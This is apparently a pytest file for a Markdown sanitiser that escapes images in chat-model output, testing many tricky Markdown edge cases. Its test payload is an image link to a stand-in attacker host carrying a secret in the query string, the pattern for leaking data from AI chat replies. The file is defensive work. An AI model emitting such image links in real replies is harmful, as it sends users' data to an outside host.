"""Images in model text become links; code stays as written where it certainly is code.

What a browser does with the result is proved in tests/browser/test_hostile_output_browser.py; these
cases pin the rules, above all the ambiguous Markdown where an image must still never slip through.
"""

from __future__ import annotations

import re

import pytest

from chatlab.safe_markdown import without_images

PIXEL = "![p](http://attacker.example/?q=secret)"


def images_left(markdown: str) -> int:
    """`![` not escaped by a backslash (an even run of backslashes before it escapes nothing)."""
    return len(re.findall(r"(?<!\\)(?:\\\\)*!\[", markdown))


def test_text_without_images_is_returned_unchanged():
    text = "Hello **world**, `code`, [link](https://example.com)\r\n\n```py\nx = 1\n```"
    assert without_images(text) is text


@pytest.mark.parametrize(
    "text",
    [
        PIXEL,
        f"Before {PIXEL} after",
        "![ref][px]\n\n[px]: http://attacker.example/?q=secret",
        "![p]( http://attacker.example/ )",
        "[![badge](http://a.example/b.svg)](http://a.example)",
        f"\\\\{PIXEL}",  # an escaped backslash, then a real image
        f"- item\n  - nested {PIXEL}",
        f"> quoted {PIXEL}",
        f"| a | b |\n|---|---|\n| `x | {PIXEL} | y` |",  # GFM splits cells before code spans
        f"`x` and {PIXEL} and `y`",
        f"\\`not code {PIXEL} `",
        f"<a title='`'> {PIXEL} `",  # a raw HTML tag outranks the backtick span
        f"$a`$ {PIXEL} `",  # so does math
        f"www.example.com/` {PIXEL} `",  # and a GFM autolink literal
        f"a `\nb ` {PIXEL} `",  # a span may pair across lines
    ],
)
def test_images_become_links(text):
    out = without_images(text)
    assert images_left(out) == 0, out
    assert out.replace("\\![", "![") == text.replace("\r\n", "\n")


@pytest.mark.parametrize(
    "text",
    [
        # A fence that is not one (backtick in its info string), or that we cannot place, never hides text.
        f"``` a`b\n{PIXEL}\n```",
        # A fence inside a list ends with the list: the next line is top-level text.
        f"1. step\n   ```\n{PIXEL}\n   ```",
        # Raw HTML runs past blank lines: a fence line inside it is no fence.
        f"<!--\n\n```\n\n-->\n{PIXEL}\n```",
        "<div>\n```\n\n" + PIXEL,
        # Math runs past blank lines too.
        f"$$\n\n```\n$$\n{PIXEL}\n```",
        # A fence after text: the later fence lines may open or close, so none is trusted.
        f"text\n```\n\n```\n{PIXEL}\n```",
        # Old Mac line ends are line ends to Markdown: the fence closes before the image.
        f"```\nx\n```\r{PIXEL}",
        # A line of no-break spaces is not blank to Markdown.
        f"[foo]: /url '\n\u00a0\n```\n'\n{PIXEL}\n```",
    ],
)
def test_ambiguous_markdown_never_hides_an_image(text):
    out = without_images(text)
    outside_fences = re.sub(r"(?ms)^```\n.*?^```$", "", out)  # what a trusted fence could still hold
    assert PIXEL not in outside_fences.replace("\r", "\n").split("\n"), out
    assert f"\\{PIXEL}" in out


def test_code_keeps_its_bangs():
    text = (
        "Use `vec![1, 2]` like this:\n\n"
        "```rust\nlet v = vec![1, 2]; // ![a](b)\n```\n\n"
        "~~~md\n![shown as code](x)\n~~~\n\n"
        f"and then {PIXEL}"
    )
    out = without_images(text)
    assert "`vec![1, 2]`" in out
    assert "let v = vec![1, 2]; // ![a](b)" in out
    assert "![shown as code](x)" in out
    assert out.endswith(f"and then \\{PIXEL}")


def test_an_unclosed_fence_keeps_the_rest_as_code():
    # While a reply streams, its last fence is open: the text so far is code, as the renderer shows it.
    assert without_images("Intro\n\n```rust\nlet v = vec![1];") == "Intro\n\n```rust\nlet v = vec![1];"


def test_escaped_text_cannot_become_a_link_not_even_a_bare_url():
    from chatlab.safe_markdown import WORD_JOINER, escape_markdown

    title = "[x](http://a.example/p) https://b.example www.c.example WWW.D.example me@e.example"
    shown = escape_markdown(title)
    assert "](" not in shown.replace("\\]\\(", "")
    # GFM's own link finding (URL, www., e-mail) meets an invisible joiner where a link would start.
    assert "://" not in shown and "www\\." not in shown.lower() and "e@" not in shown
    assert re.sub(r"\\(.)", r"\1", shown).replace(WORD_JOINER, "") == title  # the same characters to read
